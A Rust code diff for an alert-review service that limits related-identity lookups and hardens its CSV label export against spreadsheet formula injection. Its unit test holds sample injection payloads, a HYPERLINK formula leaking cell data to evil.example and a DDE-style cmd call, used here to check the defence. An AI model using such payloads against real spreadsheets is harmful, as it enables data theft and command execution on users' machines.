@@ -238,7 +238,13 @@ async fn alert(
             };
             let history = s.history(&id)?;
             let mut related = Vec::new();
-            for ident in std::iter::once(&st.alert.subject).chain(&st.alert.related) {
+            // The other alerts of the subject and its first related identities only: each
+            // is a query under the store's lock, which every page and the live queue wait
+            // for (an alert naming thousands held them all for tens of seconds).
+            for ident in std::iter::once(&st.alert.subject)
+                .chain(&st.alert.related)
+                .take(1 + RELATED_LOOKED_UP)
+            {
                 for r in s.about(ident, 20)? {
                     if r.alert.alert_id != id
                         && !related
@@ -373,6 +379,9 @@ async fn triage(
     Redirect::to(&format!("../{}?done={mark}", pages::seg(&id))).into_response()
 }
 
+/// How many of an alert's related identities its page looks up other alerts for.
+pub const RELATED_LOOKED_UP: usize = 50;
+
 async fn line(
     State(app): State<Arc<App>>,
     Extension(user): Extension<User>,
@@ -451,6 +460,23 @@ async fn export(
 }
 
 /// `subject,label` for every decided subject, as `linewatch tune --labels` reads it.
+/// `subject,label` rows as CSV that opens cleanly in a spreadsheet: quoted where a comma,
+/// quote or line break would break the row, and a subject that a spreadsheet would run as a
+/// formula (`=`, `+`, `-`, `@` first) written with a leading `'`, which `tune --labels`
+/// drops again on reading ([`crate::sheet::protect`]).
+fn labels_csv(rows: &[(String, String)]) -> String {
+    let mut w = csv::Writer::from_writer(Vec::new());
+    // Writing to memory cannot fail.
+    let _ = w.write_record(["subject", "label"]);
+    for (subject, label) in rows {
+        let _ = w.write_record([
+            crate::sheet::protect(subject).as_ref(),
+            crate::sheet::protect(label).as_ref(),
+        ]);
+    }
+    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
+}
+
 async fn labels(State(app): State<Arc<App>>, Extension(user): Extension<User>) -> Response {
     if !user.role.may_act() {
         app.metrics.refused.with_label_values(&["role"]).inc();
@@ -469,19 +495,7 @@ async fn labels(State(app): State<Arc<App>>, Extension(user): Extension<User>) -
                 return *r;
             }
             app.metrics.exports.inc();
-            let mut s = String::from("subject,label\n");
-            for (subject, label) in rows {
-                // Pseudonyms have no spaces or control bytes; quote only when a comma or
-                // quote would break the line.
-                if subject.contains([',', '"']) {
-                    s.push_str(&format!("\"{}\"", subject.replace('"', "\"\"")));
-                } else {
-                    s.push_str(&subject);
-                }
-                s.push(',');
-                s.push_str(&label);
-                s.push('\n');
-            }
+            let s = labels_csv(&rows);
             (
                 [
                     (header::CONTENT_TYPE, "text/csv; charset=utf-8"),
@@ -492,5 +506,37 @@ async fn labels(State(app): State<Arc<App>>, Extension(user): Extension<User>) -
                 .into_response()
         }
         Err(e) => db_failure(e),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn labels_csv_keeps_formulas_and_line_breaks_out_and_reads_back() {
+        let rows = vec![
+            (
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".to_string(),
+                "deal_line".to_string(),
+            ),
+            ("+cmd|' /C calc'!A0".to_string(), "deal_line".to_string()),
+            ("La,b".to_string(), "lookalike_triaged".to_string()),
+            ("Lplain".to_string(), "deal_line".to_string()),
+        ];
+        let csv = super::labels_csv(&rows);
+        // No field starts a formula, and every row is one line.
+        for line in csv.lines().skip(1) {
+            let first = line.trim_start_matches('"');
+            assert!(!first.starts_with(['=', '+', '-', '@']), "{line}");
+        }
+        assert_eq!(csv.lines().count(), 1 + rows.len());
+        // `tune --labels` reads the same subjects back.
+        let labels = crate::eval::Labels::parse(&csv).unwrap();
+        let deal: std::collections::HashSet<&str> = rows
+            .iter()
+            .filter(|(_, l)| l == "deal_line")
+            .map(|(s, _)| s.as_str())
+            .collect();
+        assert_eq!(labels.truth("deal_line"), deal);
+        assert!(labels.lookalikes().contains("La,b"));
     }
 }
